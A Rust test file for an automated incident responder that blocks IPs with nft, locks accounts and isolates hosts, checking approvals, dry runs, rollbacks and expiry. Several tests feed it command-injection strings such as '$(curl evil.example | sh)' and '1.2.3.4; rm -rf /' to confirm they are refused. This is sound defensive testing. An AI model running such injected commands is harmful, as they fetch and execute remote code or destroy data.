//! Responder behaviour: modes, guard-rails, dry runs, approvals, rollbacks, expiry, state.
//!
//! Real execution here runs fake `nft`/`usermod`/`pkill` binaries (tiny scripts in a temp dir
//! that log their argv and stdin). They stand in only at the outermost edge, where the real
//! tools would change this machine; the namespace test in `tests/netns.rs` runs real `nft`.

use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, TimeZone, Utc};
use mamori_event::{Level, RuleId};

use crate::*;

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, 12, 0, 0).unwrap()
}

fn trigger(
    rule: &str,
    level: Level,
    ip: Option<&str>,
    user: Option<&str>,
    host: Option<&str>,
) -> Trigger {
    Trigger {
        rule_id: RuleId(Arc::from(rule)),
        level,
        source_ip: ip.map(str::to_owned),
        user_name: user.map(str::to_owned),
        host_name: host.map(str::to_owned),
    }
}

fn modes(block: Mode, disable: Mode, isolate: Mode, webhook: Mode) -> Modes {
    Modes {
        block_ip: block,
        disable_account: disable,
        isolate_host: isolate,
        webhook,
        block_ttl: None,
    }
}

fn policy() -> ResponsePolicy {
    let mut p = ResponsePolicy {
        allow_list: vec!["192.0.2.0/24".parse().unwrap()],
        server_addrs: vec!["198.51.100.10".parse().unwrap()],
        isolation_keep: vec!["198.51.100.10:8443".parse().unwrap()],
        local_host: Some("web-1".into()),
        webhook_url: Some(WebhookUrl::parse("https://hooks.example.com/mamori").unwrap()),
        default_ttl: Duration::from_secs(3600),
        max_ttl: Duration::from_secs(86400),
        ..ResponsePolicy::default()
    };
    p.rules.insert(
        "auto".into(),
        modes(Mode::Automatic, Mode::Automatic, Mode::Automatic, Mode::Off),
    );
    p.rules.insert(
        "ask".into(),
        modes(Mode::Suggest, Mode::Suggest, Mode::Suggest, Mode::Off),
    );
    p.rules.insert(
        "hook".into(),
        modes(Mode::Off, Mode::Off, Mode::Off, Mode::Automatic),
    );
    p.levels.insert(
        Level::Critical,
        modes(Mode::Automatic, Mode::Off, Mode::Off, Mode::Off),
    );
    p
}

/// A fake tool that appends `argv` and then stdin to `log`, prints `stderr` and exits `code`.
fn fake_tool(dir: &Path, name: &str, code: i32, stderr: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let path = dir.join(name);
    let log = dir.join(format!("{name}.log"));
    let script = format!(
        "#!/bin/sh\nprintf 'argv:' >> '{log}'\nfor a in \"$@\"; do printf ' [%s]' \"$a\" >> '{log}'; done\necho >> '{log}'\ncat >> '{log}'\necho '{stderr}' >&2\nexit {code}\n",
        log = log.display()
    );
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

fn read_log(dir: &Path, name: &str) -> String {
    std::fs::read_to_string(dir.join(format!("{name}.log"))).unwrap_or_default()
}

/// A responder whose tools are fakes in `dir`.
fn responder(dir: &Path) -> Responder {
    let backends = Backends {
        nft: NftConfig {
            nft: fake_tool(dir, "nft", 0, ""),
            ..NftConfig::default()
        },
        account: AccountConfig {
            usermod: fake_tool(dir, "usermod", 0, ""),
            pkill: fake_tool(dir, "pkill", 1, ""),
        },
        webhook: WebhookConfig {
            curl: fake_tool(dir, "curl", 0, ""),
            timeout_secs: 5,
        },
    };
    Responder::new(ResponderConfig {
        policy: policy(),
        backends,
    })
    .unwrap()
}

#[test]
fn off_plans_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    // No rule entry and no level entry: everything off.
    let plan = r.plan(
        &trigger(
            "unknown",
            Level::High,
            Some("203.0.113.9"),
            Some("mallory"),
            Some("web-1"),
        ),
        t0(),
    );
    assert_eq!(plan, Plan::default());
    // A rule entry with block off ignores the source ip even at a level that would block.
    let plan = r.plan(
        &trigger("hook", Level::Critical, Some("203.0.113.9"), None, None),
        t0(),
    );
    assert_eq!(plan.actions.len(), 1);
    assert_eq!(plan.actions[0].action.kind(), ActionKind::Webhook);
    assert_eq!(r.records().count(), 0);
}

#[test]
fn automatic_executes_and_records() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let resp = r.respond(
        &trigger(
            "auto",
            Level::Low,
            Some("203.0.113.9"),
            Some("mallory"),
            None,
        ),
        false,
        t0(),
    );
    assert_eq!(resp.plan.actions.len(), 2);
    assert!(resp.plan.refused.is_empty());
    assert_eq!(resp.executed.len(), 2);
    let block = &resp.executed[0];
    assert_eq!(block.by, Actor::Automatic);
    assert_eq!(block.mode, Mode::Automatic);
    assert!(!block.dry_run);
    assert_eq!(block.outcome, Outcome::Ok);
    assert_eq!(
        block.expires_at,
        Some(t0() + chrono::Duration::seconds(3600))
    );
    assert!(
        block.reason.contains(
            "rule auto (low) saw source.ip 203.0.113.9; policy for rule auto: block_ip automatic"
        ),
        "{}",
        block.reason
    );
    let nft_log = read_log(dir.path(), "nft");
    assert!(
        nft_log.starts_with("argv: [-f] [-]\nadd table inet mamori\n"),
        "{nft_log}"
    );
    assert!(nft_log.contains("add element inet mamori blocked4 { 203.0.113.9 timeout 3600s }"));
    assert_eq!(
        read_log(dir.path(), "usermod"),
        "argv: [-L] [--] [mallory]\n"
    );
    // pkill exits 1 (no processes), which counts as success.
    assert_eq!(
        read_log(dir.path(), "pkill"),
        "argv: [-KILL] [-u] [mallory]\n"
    );
    assert_eq!(resp.executed[1].outcome, Outcome::Ok);
    assert_eq!(r.active().count(), 2);
    assert_eq!(r.pending().count(), 0);
    // The executed plans are consumed.
    let again = r.execute(&resp.plan.actions[0], false, t0());
    assert!(matches!(again, Err(Error::UnknownPlan(_))));
}

#[test]
fn suggest_waits_for_approval() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let resp = r.respond(
        &trigger("ask", Level::Low, Some("203.0.113.9"), None, None),
        false,
        t0(),
    );
    assert!(resp.executed.is_empty());
    let planned = &resp.plan.actions[0];
    assert_eq!(planned.mode, Mode::Suggest);
    assert_eq!(r.pending().count(), 1);
    assert!(matches!(
        r.execute(planned, false, t0()),
        Err(Error::NeedsApproval(_))
    ));
    assert!(
        !dir.path().join("nft.log").exists(),
        "nothing may run before approval"
    );

    // A dry run of a suggestion is a preview: it runs nothing and leaves it pending.
    let preview = r.execute(planned, true, t0()).unwrap();
    assert!(preview.dry_run);
    assert!(!dir.path().join("nft.log").exists());
    assert_eq!(r.pending().count(), 1);

    assert!(matches!(
        r.approve(planned.id, Actor::Automatic, t0()),
        Err(Error::InvalidActor { .. })
    ));
    let at = t0() + chrono::Duration::minutes(5);
    let rec = r
        .approve(planned.id, Actor::user("ana").unwrap(), at)
        .unwrap();
    assert_eq!(rec.by, Actor::User("ana".into()));
    assert_eq!(rec.mode, Mode::Suggest);
    assert_eq!(rec.at, at);
    assert_eq!(rec.outcome, Outcome::Ok);
    assert!(read_log(dir.path(), "nft").contains("203.0.113.9 timeout 3600s"));
    assert_eq!(r.pending().count(), 0);
    assert!(matches!(
        r.approve(planned.id, Actor::user("ana").unwrap(), at),
        Err(Error::UnknownPlan(_))
    ));
}

#[test]
fn approving_an_automatic_plan_or_a_forged_plan_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let plan = r.plan(
        &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
        t0(),
    );
    let p = &plan.actions[0];
    assert!(matches!(
        r.approve(p.id, Actor::user("ana").unwrap(), t0()),
        Err(Error::NotASuggestion(_))
    ));
    // Changing the target of an issued plan does not get past the guard-rails.
    let mut forged = p.clone();
    forged.action = Action::BlockIp {
        ip: "192.0.2.1".parse().unwrap(),
        ttl: Duration::from_secs(10),
    };
    assert!(matches!(
        r.execute(&forged, false, t0()),
        Err(Error::PlanMismatch(_))
    ));
    let mut unknown = p.clone();
    unknown.id = PlanId(999);
    assert!(matches!(
        r.execute(&unknown, false, t0()),
        Err(Error::UnknownPlan(_))
    ));
    assert!(!dir.path().join("nft.log").exists());
    assert_eq!(r.dismiss(p.id).unwrap().id, p.id);
    assert!(r.plan_by_id(p.id).is_none());
}

#[test]
fn allow_list_and_protected_targets_are_refused_with_reason() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let cases = [
        (
            "192.0.2.77",
            "192.0.2.77 is in allow-list entry 192.0.2.0/24",
        ),
        ("127.0.0.1", "127.0.0.1 is a loopback address"),
        ("::1", "::1 is a loopback address"),
        ("::ffff:127.0.0.1", "127.0.0.1 is a loopback address"),
        (
            "198.51.100.10",
            "198.51.100.10 is one of the server's own addresses",
        ),
        ("0.0.0.0", "0.0.0.0 is not a unicast host address"),
    ];
    for (ip, why) in cases {
        let plan = r.plan(&trigger("auto", Level::Low, Some(ip), None, None), t0());
        assert!(plan.actions.is_empty(), "{ip}");
        assert_eq!(plan.refused.len(), 1);
        assert_eq!(plan.refused[0].kind, ActionKind::BlockIp);
        assert_eq!(plan.refused[0].target, ip);
        assert_eq!(plan.refused[0].reason, why);
    }
    let plan = r.plan(&trigger("auto", Level::Low, None, Some("root"), None), t0());
    assert_eq!(plan.refused[0].reason, "root is never disabled");
    // Isolation: only for this host, and only with a kept server connection.
    let plan = r.plan(&trigger("auto", Level::Low, None, None, Some("db-7")), t0());
    assert_eq!(
        plan.refused[0].reason,
        "host.name is not this host (web-1); isolation only runs locally"
    );
    let plan = r.plan(
        &trigger("auto", Level::Low, None, None, Some("WEB-1")),
        t0(),
    );
    assert_eq!(plan.actions.len(), 1);
    assert_eq!(
        plan.actions[0].action,
        Action::IsolateHost {
            keep: vec!["198.51.100.10:8443".parse().unwrap()]
        }
    );
    let mut p = policy();
    p.isolation_keep.clear();
    r.set_policy(p).unwrap();
    r.dismiss(plan.actions[0].id).unwrap();
    let plan = r.plan(
        &trigger("auto", Level::Low, None, None, Some("web-1")),
        t0(),
    );
    assert!(plan.refused[0]
        .reason
        .starts_with("no isolation_keep address"));
    assert_eq!(r.records().count(), 0);
}

/// Injection attempts from log fields never become an action: they do not parse as typed
/// values, so no argv or nft script can be built from them.
#[test]
fn injection_attempts_are_refused_and_nothing_runs() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let evil_ips = [
        "1.2.3.4; rm -rf /",
        "1.2.3.4 timeout 1s }; flush ruleset; add element inet mamori blocked4 { 5.6.7.8",
        "1.2.3.4\nflush ruleset",
        "$(curl evil.example | sh)",
        "1.2.3.4 `reboot`",
    ];
    for ip in evil_ips {
        let resp = r.respond(
            &trigger("auto", Level::Low, Some(ip), None, None),
            false,
            t0(),
        );
        assert!(
            resp.plan.actions.is_empty() && resp.executed.is_empty(),
            "{ip:?}"
        );
        assert_eq!(
            resp.plan.refused[0].reason,
            "source.ip is not an IP address"
        );
    }
    let evil_users = [
        "-o root",
        "--help",
        "mallory; reboot",
        "mallory\nroot",
        "$(id)",
        "Mallory",
    ];
    for user in evil_users {
        let resp = r.respond(
            &trigger("auto", Level::Low, None, Some(user), None),
            false,
            t0(),
        );
        assert!(resp.plan.actions.is_empty(), "{user:?}");
        assert!(resp.plan.refused[0]
            .reason
            .starts_with("user.name is not a valid account name"));
    }
    assert!(std::fs::read_dir(dir.path()).unwrap().all(|e| !e
        .unwrap()
        .file_name()
        .to_string_lossy()
        .ends_with(".log")));
    // The refusal keeps the raw text for the incident, bounded.
    let long = format!("1.2.3.4{}", "x".repeat(10_000));
    let plan = r.plan(&trigger("auto", Level::Low, Some(&long), None, None), t0());
    assert!(plan.refused[0].target.chars().count() <= 129);
}

#[test]
fn dry_run_returns_exact_commands_without_running() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let resp = r.respond(
        &trigger(
            "auto",
            Level::Low,
            Some("2001:db8::66"),
            Some("mallory"),
            None,
        ),
        true,
        t0(),
    );
    assert_eq!(resp.executed.len(), 2);
    let block = &resp.executed[0];
    assert!(block.dry_run);
    assert_eq!(block.outcome, Outcome::Ok);
    assert_eq!(block.commands.len(), 1);
    assert_eq!(block.commands[0].program, dir.path().join("nft"));
    assert_eq!(block.commands[0].args, ["-f", "-"]);
    assert_eq!(
        block.commands[0].stdin.as_deref(),
        Some(NftScript::block("2001:db8::66".parse().unwrap(), Duration::from_secs(3600)).as_str())
    );
    let disable = &resp.executed[1];
    assert_eq!(disable.commands[0].args, ["-L", "--", "mallory"]);
    assert_eq!(disable.commands[1].args, ["-KILL", "-u", "mallory"]);
    // Nothing ran, and dry runs are not in effect.
    assert!(!dir.path().join("nft.log").exists());
    assert!(!dir.path().join("usermod.log").exists());
    assert_eq!(r.active().count(), 0);
    // A dry-run record can only be rolled back as a dry run (a preview of the undo).
    assert!(matches!(
        r.rollback(block.id, Actor::Automatic, false, t0()),
        Err(Error::DryRunRecord(_))
    ));
    let rec = r.rollback(block.id, Actor::Automatic, true, t0()).unwrap();
    let stdin = rec.rollbacks[0].commands[0].stdin.clone().unwrap();
    assert!(
        stdin.ends_with("delete element inet mamori blocked6 { 2001:db8::66 }\n"),
        "{stdin}"
    );
    assert!(rec.rolled_back_at.is_none());
    assert!(!dir.path().join("nft.log").exists());
}

#[test]
fn rollback_undoes_and_is_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let resp = r.respond(
        &trigger(
            "auto",
            Level::Low,
            Some("203.0.113.9"),
            Some("mallory"),
            None,
        ),
        false,
        t0(),
    );
    let (block, disable) = (resp.executed[0].id, resp.executed[1].id);
    let later = t0() + chrono::Duration::minutes(10);
    let rec = r
        .rollback(block, Actor::user("ana").unwrap(), false, later)
        .unwrap();
    assert_eq!(rec.rolled_back_at, Some(later));
    assert_eq!(rec.rollbacks.len(), 1);
    assert_eq!(rec.rollbacks[0].by, Actor::User("ana".into()));
    assert!(
        read_log(dir.path(), "nft").contains("delete element inet mamori blocked4 { 203.0.113.9 }")
    );
    assert!(matches!(
        r.rollback(block, Actor::Automatic, false, later),
        Err(Error::AlreadyRolledBack(_))
    ));
    r.rollback(disable, Actor::user("ana").unwrap(), false, later)
        .unwrap();
    assert!(read_log(dir.path(), "usermod").ends_with("argv: [-U] [--] [mallory]\n"));
    assert_eq!(r.active().count(), 0);
    // Once rolled back, the same target can be planned again.
    let plan = r.plan(
        &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
        later,
    );
    assert_eq!(plan.actions.len(), 1);
    assert!(matches!(
        r.rollback(RecordId(77), Actor::Automatic, false, later),
        Err(Error::UnknownRecord(_))
    ));
}

#[test]
fn webhook_cannot_be_rolled_back_and_carries_json_on_stdin() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let resp = r.respond(
        &trigger("hook", Level::High, Some("x\"}; rm -rf /"), None, None),
        false,
        t0(),
    );
    let rec = &resp.executed[0];
    let Action::Webhook { payload, .. } = &rec.action else {
        panic!("expected webhook")
    };
    assert_eq!(payload["rule_id"], "hook");
    assert_eq!(payload["level"], "high");
    assert_eq!(payload["entities"]["source.ip"], "x\"}; rm -rf /");
    let log = read_log(dir.path(), "curl");
    assert!(
        log.contains("[--url] [https://hooks.example.com/mamori]"),
        "{log}"
    );
    assert!(log.contains(r#""source.ip":"x\"}; rm -rf /""#), "{log}");
    assert!(matches!(
        r.rollback(rec.id, Actor::Automatic, false, t0()),
        Err(Error::NotReversible {
            kind: ActionKind::Webhook,
            ..
        })
    ));
    assert_eq!(r.active().count(), 0);
}

#[test]
fn failed_commands_are_recorded_not_in_effect() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let mut backends = r.backends().clone();
    backends.nft.nft = fake_tool(
        dir.path(),
        "badnft",
        1,
        "Error: Could not process rule: Operation not permitted",
    );
    let mut r2 = Responder::new(ResponderConfig {
        policy: r.policy().clone(),
        backends,
    })
    .unwrap();
    let resp = r2.respond(
        &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
        false,
        t0(),
    );
    let Outcome::Failed { stderr } = &resp.executed[0].outcome else {
        panic!("expected failure")
    };
    assert!(
        stderr.ends_with("exit status 1: Error: Could not process rule: Operation not permitted"),
        "{stderr}"
    );
    assert_eq!(r2.active().count(), 0);
    // A failed block does not stop a retry.
    assert_eq!(
        r2.plan(
            &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
            t0()
        )
        .actions
        .len(),
        1
    );
    // And r (working tools) is unaffected.
    assert_eq!(
        r.respond(
            &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
            false,
            t0()
        )
        .executed[0]
            .outcome,
        Outcome::Ok
    );
}

#[test]
fn duplicates_are_refused_and_expiry_frees_the_target() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let t = trigger(
        "critical-rule",
        Level::Critical,
        Some("203.0.113.9"),
        None,
        None,
    );
    let first = r.respond(&t, false, t0());
    let id = first.executed[0].id;
    let second = r.respond(&t, false, t0());
    assert!(second.executed.is_empty());
    assert_eq!(
        second.plan.refused[0].reason,
        format!("already in effect: record {id} (block_ip 203.0.113.9 for 3600s)")
    );
    // Pending suggestions are not planned twice either.
    let s1 = r.plan(
        &trigger("ask", Level::Low, Some("203.0.113.10"), None, None),
        t0(),
    );
    let s2 = r.plan(
        &trigger("ask", Level::Low, Some("203.0.113.10"), None, None),
        t0(),
    );
    assert_eq!(s1.actions.len(), 1);
    assert!(s2.refused[0]
        .reason
        .starts_with(&format!("already planned: plan {}", s1.actions[0].id)));

    assert!(r.expire(t0() + chrono::Duration::seconds(3599)).is_empty());
    let expired = r.expire(t0() + chrono::Duration::seconds(3601));
    assert_eq!(expired, vec![id]);
    assert_eq!(
        r.record(id).unwrap().expired_at,
        Some(t0() + chrono::Duration::seconds(3600))
    );
    assert!(r.expire(t0() + chrono::Duration::seconds(4000)).is_empty());
    let third = r.respond(&t, false, t0() + chrono::Duration::seconds(3601));
    assert_eq!(third.executed.len(), 1);
    // Records no longer in effect can be pruned; those in effect are kept.
    assert_eq!(r.prune(t0() + chrono::Duration::seconds(3601)), 1);
    assert!(r.record(id).is_none());
    assert!(r.record(third.executed[0].id).is_some());
}

#[test]
fn ttl_is_clamped_to_max() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let mut p = policy();
    p.rules.get_mut("auto").unwrap().block_ttl = Some(Duration::from_secs(999_999));
    r.set_policy(p).unwrap();
    let plan = r.plan(
        &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
        t0(),
    );
    assert_eq!(
        plan.actions[0].action,
        Action::BlockIp {
            ip: IpAddr::from([203, 0, 113, 9]),
            ttl: Duration::from_secs(86400)
        }
    );
    assert!(plan.actions[0]
        .reason
        .ends_with("; ttl 999999s clamped to max_ttl 86400s"));
}

#[test]
fn save_and_restore_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    r.respond(
        &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
        false,
        t0(),
    );
    let pending = r
        .plan(
            &trigger("ask", Level::Low, None, Some("mallory"), None),
            t0(),
        )
        .actions[0]
        .clone();
    let bytes = r.save();

    let mut back = responder(dir.path());
    back.restore(&bytes).unwrap();
    assert_eq!(
        back.records().collect::<Vec<_>>(),
        r.records().collect::<Vec<_>>()
    );
    assert_eq!(back.pending().collect::<Vec<_>>(), vec![&pending]);
    assert_eq!(back.save(), bytes);
    // The restored responder approves the saved suggestion and continues the id sequence.
    let rec = back
        .approve(pending.id, Actor::user("ana").unwrap(), t0())
        .unwrap();
    assert_eq!(rec.id, RecordId(2));
    assert_eq!(
        back.plan(
            &trigger("auto", Level::Low, Some("203.0.113.50"), None, None),
            t0()
        )
        .actions[0]
            .id,
        PlanId(pending.id.0 + 1)
    );
    // The restored block still counts as in effect.
    assert_eq!(
        back.plan(
            &trigger("auto", Level::Low, Some("203.0.113.9"), None, None),
            t0()
        )
        .refused
        .len(),
        1
    );

    // Records serialise for incidents, with the action typed.
    let json = serde_json::to_value(back.record(RecordId(1)).unwrap()).unwrap();
    assert_eq!(
        json["action"],
        serde_json::json!({"type": "block_ip", "ip": "203.0.113.9", "ttl": 3600})
    );
    assert_eq!(json["by"], "automatic");
    assert_eq!(json["outcome"], serde_json::json!({"status": "ok"}));

    assert!(matches!(
        back.restore(
            b"{\"version\":9,\"next_plan\":1,\"next_record\":1,\"open\":[],\"records\":[]}"
        ),
        Err(Error::StateVersion(9))
    ));
    assert!(matches!(back.restore(b"not json"), Err(Error::State(_))));
    // A tampered state cannot smuggle an invalid user name in.
    let tampered = String::from_utf8(bytes)
        .unwrap()
        .replace("\"mallory\"", "\"-o root\"");
    assert!(back.restore(tampered.as_bytes()).is_err());
}

#[test]
fn config_rejects_bad_ttls() {
    let cfg = ResponderConfig {
        policy: ResponsePolicy {
            default_ttl: Duration::from_secs(0),
            ..ResponsePolicy::default()
        },
        backends: Backends::default(),
    };
    assert!(matches!(
        Responder::new(cfg),
        Err(Error::InvalidPolicy { .. })
    ));
    let cfg: ResponderConfig = serde_json::from_str(
        r#"{"policy": {"levels": {"critical": {"block_ip": "automatic"}}, "allow_list": ["10.0.0.0/8"]},
            "backends": {"nft": {"netns": "mamori-test"}}}"#,
    )
    .unwrap();
    assert_eq!(cfg.backends.nft.netns.unwrap().as_str(), "mamori-test");
    assert!(serde_json::from_str::<ResponderConfig>(
        r#"{"policy": {}, "backends": {"nft": {"netns": "-x"}}}"#
    )
    .is_err());
}

#[test]
fn guard_rails_are_checked_again_at_execution() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let planned = r
        .plan(
            &trigger("ask", Level::Low, Some("203.0.113.9"), None, None),
            t0(),
        )
        .actions[0]
        .clone();
    // The admin adds the address to the allow-list before anyone approves.
    let mut p = policy();
    p.allow_list.push("203.0.113.0/24".parse().unwrap());
    r.set_policy(p).unwrap();
    let err = r
        .approve(planned.id, Actor::user("ana").unwrap(), t0())
        .unwrap_err();
    assert_eq!(err.to_string(), format!("plan {} refused by the current policy: 203.0.113.9 is in allow-list entry 203.0.113.0/24", planned.id));
    assert!(!dir.path().join("nft.log").exists());
    assert_eq!(r.pending().count(), 0);
    assert_eq!(r.records().count(), 0);
}

#[test]
fn reapply_restores_blocks_with_remaining_ttl_and_isolation() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = responder(dir.path());
    let resp = r.respond(
        &trigger(
            "auto",
            Level::Low,
            Some("203.0.113.9"),
            Some("mallory"),
            Some("web-1"),
        ),
        false,
        t0(),
    );
    assert_eq!(resp.executed.len(), 3);
    let early = r.respond(
        &trigger(
            "critical-rule",
            Level::Critical,
            Some("203.0.113.7"),
            None,
            None,
        ),
        false,
        t0() - chrono::Duration::minutes(59),
    );
    std::fs::remove_file(dir.path().join("nft.log")).unwrap();

    // Twenty minutes later (say, after a reboot): 40 min left on the first block; the early
    // block expired at t0 + 1 min and is not re-applied.
    let later = t0() + chrono::Duration::minutes(20) + chrono::Duration::milliseconds(300);
    let done = r.reapply(false, later);
    assert_eq!(done.len(), 2, "{done:?}");
    assert!(done.iter().all(|d| d.outcome == Outcome::Ok));
    let log = read_log(dir.path(), "nft");
    assert!(
        log.contains("add element inet mamori blocked4 { 203.0.113.9 timeout 2400s }"),
        "{log}"
    );
    assert!(log.contains("add chain inet mamori isolate_in"), "{log}");
    assert!(!log.contains("203.0.113.7"));
    assert!(r.record(early.executed[0].id).unwrap().expired_at.is_some());
    // Account locks persist on disk: not re-run.
    assert_eq!(read_log(dir.path(), "usermod").lines().count(), 1);
    // Dry run: commands only.
    std::fs::remove_file(dir.path().join("nft.log")).unwrap();
    assert_eq!(r.reapply(true, later).len(), 2);
    assert!(!dir.path().join("nft.log").exists());
}
